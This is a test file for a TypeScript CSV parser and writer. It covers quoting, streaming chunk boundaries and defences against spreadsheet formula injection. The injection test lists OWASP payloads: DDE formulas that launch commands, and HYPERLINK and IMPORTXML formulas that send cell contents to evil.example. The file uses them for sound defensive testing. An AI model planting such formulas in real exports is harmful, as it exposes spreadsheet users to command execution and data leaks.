import { describe, expect, it } from 'vitest';
import { CsvError, CsvParser, csvCell, parseCsv, toCsvRow } from '../src/csv.ts';

describe('CSV parser (RFC 4180)', () => {
  it('parses quotes, escaped quotes, embedded delimiters and line breaks, CRLF/LF/CR and a BOM', () => {
    const text = '\uFEFFname,note\r\n"Acme, Inc.","said ""hi""\nthen left"\nBob,\rEve,"x"\r\n';
    expect(parseCsv(text).map((record) => record.fields)).toEqual([
      ['name', 'note'],
      ['Acme, Inc.', 'said "hi"\nthen left'],
      ['Bob', ''],
      ['Eve', 'x'],
    ]);
  });

  it('gives the same records whatever the chunk boundaries, with exact character ranges', () => {
    const text = 'a,b\r\n"1\r\n2","x""y"\r\nlast,row';
    const whole = parseCsv(text);
    for (let size = 1; size <= text.length; size += 1) {
      const parser = new CsvParser();
      const records = [];
      for (let i = 0; i < text.length; i += size) records.push(...parser.write(text.slice(i, i + size)));
      records.push(...parser.end());
      expect(
        records.map((r) => r.fields),
        `chunk size ${size}`,
      ).toEqual(whole.map((r) => r.fields));
      expect(records.map((r) => [r.start, r.end])).toEqual(whole.map((r) => [r.start, r.end]));
    }
    expect(whole.map((r) => text.slice(r.start, r.end))).toEqual(['a,b', '"1\r\n2","x""y"', 'last,row']);
  });

  it('rejects an unterminated quote', () => {
    const parser = new CsvParser();
    parser.write('a,"open\n');
    expect(() => parser.end()).toThrow(CsvError);
  });

  it('neutralises formula injection and quotes what needs quoting', () => {
    expect(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'plain', 'a,b', 'say "x"'].map(csvCell)).toEqual([
      "'=1+1",
      '+1',
      '-1',
      "'@SUM(A1)",
      "'\tx",
      `"'\rx"`,
      'plain',
      '"a,b"',
      '"say ""x"""',
    ]);
    // The OWASP CSV-injection payloads, with the prefixes spreadsheets skip (whitespace, line
    // breaks) and the fullwidth forms they fold to ASCII: every one starts with an apostrophe.
    const payloads = [
      "=cmd|' /C calc'!A0",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      '=DDE("cmd";"/C calc";"!A0")A0',
      '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
      ' =1+1',
      '   @SUM(A1)',
      '\n=1+1',
      '\r\n-1+cmd|x',
      '\u00a0=1+1',
      '＝1+1',
      "＋cmd|' /C calc'!A0",
      '－2+3+cmd|x',
      '＠SUM(A1)',
      ' ＝HYPERLINK("x")',
    ];
    for (const payload of payloads) {
      const cell = parseCsv(toCsvRow([payload]))[0]?.fields[0];
      expect(cell?.startsWith("'"), JSON.stringify(payload)).toBe(true);
    }
    // Phone numbers and numbers stay readable, without an apostrophe.
    const readable = ['+1 555 0100', '+44 (20) 7946-0958', '-12.5', '555-0100'];
    expect(readable.map(csvCell)).toEqual(readable);
    const row = toCsvRow(['=HYPERLINK("http://evil")', null, 3]);
    expect(parseCsv(row)[0]?.fields).toEqual(['\'=HYPERLINK("http://evil")', '', '3']);
  });
});
